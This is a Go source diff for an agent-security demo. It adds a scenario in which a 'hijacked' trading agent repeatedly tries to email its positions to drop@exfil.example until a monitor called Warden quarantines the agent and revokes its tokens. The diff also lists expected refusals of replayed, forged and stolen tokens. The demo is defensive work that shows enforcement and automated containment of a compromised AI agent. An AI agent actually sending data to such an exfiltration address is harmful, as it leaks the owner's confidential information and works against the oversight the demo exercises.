@@ -23,11 +23,12 @@ import (
 
 // Outcomes as the table shows them.
 const (
-	allowed  = "allow"
-	denied   = "deny"
-	approval = "approval required"
-	refused  = "refused (401)"
-	failed   = "error"
+	allowed   = "allow"
+	denied    = "deny"
+	approval  = "approval required"
+	refused   = "refused (401)"
+	contained = "quarantined by Warden"
+	failed    = "error"
 )
 
 const (
@@ -125,7 +126,8 @@ func (d *Demo) Play(ctx context.Context, out io.Writer) (bool, error) {
 			{trader, "attack: replays a captured request (same token and DPoP proof)", refused, d.replay},
 			{trader, "attack: forged token (roles changed to senior-trader)", refused, d.forged},
 			{trader, "attack: stolen token, used without the agent's key", refused, d.stolen},
-			{"admin", "quarantines the trading agent (behaviour drift)", "done", d.quarantine(trader)},
+			{trader, "attack: hijacked, it emails the positions out, again and again", contained, d.hijack(call(trader, "email__send", map[string]string{"to": "drop@exfil.example", "subject": "positions"}))},
+			{"warden", "what the monitor saw, and what the playbook did", "done", d.incident(trader)},
 			{trader, "gets a quote again, a moment later", denied, call(trader, "market-data__get_quote", map[string]string{"symbol": "ACME"})},
 		}},
 		{"Healthcare: a radiology agent", "healthcare", []step{
@@ -229,12 +231,42 @@ func (d *Demo) redacted(run func(context.Context) result) func(context.Context) 
 	}
 }
 
-func (d *Demo) quarantine(id string) func(context.Context) result {
+// hijack repeats a call the agent's roles never allow until Warden stops
+// it by itself: the monitor scores each denial, and the bundle's playbook
+// quarantines the agent and revokes its tokens once the risk is critical.
+func (d *Demo) hijack(attempt func(context.Context) result) func(context.Context) result {
 	return func(ctx context.Context) result {
-		if _, err := d.App.Registry.SetStatus(ctx, "admin:demo", id, store.StatusQuarantined, "warden demo: behaviour drift"); err != nil {
-			return result{outcome: failed, detail: err.Error()}
+		id := trader
+		for n := 1; n <= 30; n++ {
+			r := attempt(ctx)
+			if a, err := d.App.Registry.Agent(ctx, id); err == nil && a.Status == store.StatusQuarantined {
+				return mk(contained, fmt.Sprintf("after %d denied attempts (the last: %s)", n, r.detail))
+			}
+			if r.outcome != denied {
+				return mk(failed, fmt.Sprintf("attempt %d: %s", n, r.detail))
+			}
 		}
-		return mk("done", "status quarantined, seen by every enforcement point")
+		return mk(failed, "30 denied attempts, and the agent is still active")
+	}
+}
+
+// incident shows what the monitor scored and what the playbook did.
+func (d *Demo) incident(id string) func(context.Context) result {
+	return func(ctx context.Context) result {
+		rep, ok := d.App.Monitor.Report(id)
+		if !ok {
+			return mk(failed, "the monitor has no record of the agent")
+		}
+		incs, err := d.App.Store.Incidents(ctx, store.IncidentFilter{AgentID: id, Open: true})
+		if err != nil || len(incs) == 0 {
+			return mk(failed, fmt.Sprintf("no open incident: %v", err))
+		}
+		var taken []string
+		for _, a := range incs[0].Actions {
+			taken = append(taken, a.Action)
+		}
+		return mk("done", fmt.Sprintf("risk %d (%s), signals %s; incident %s: %s", rep.Risk.Score, rep.Risk.Level,
+			strings.Join(rep.Risk.Signals, ", "), incs[0].ID, strings.Join(taken, ", ")))
 	}
 }
 
